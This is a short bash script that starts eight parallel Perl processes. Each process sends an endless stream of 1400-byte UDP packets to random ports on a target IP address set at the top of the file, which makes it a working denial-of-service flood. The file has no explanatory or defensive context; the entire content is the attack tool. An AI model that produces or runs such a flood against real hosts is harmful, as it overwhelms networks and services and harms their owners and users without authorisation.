#!/bin/bash
T=198.51.100.201
for i in 1 2 3 4 5 6 7 8; do
  perl -MSocket -e '
    socket(my $s, PF_INET, SOCK_DGRAM, 17);
    my $a = inet_aton($ARGV[0]);
    while (1) { send($s, "x" x 1400, 0, sockaddr_in(int(rand(65000))+1, $a)); }
  ' "$T" &
done
wait
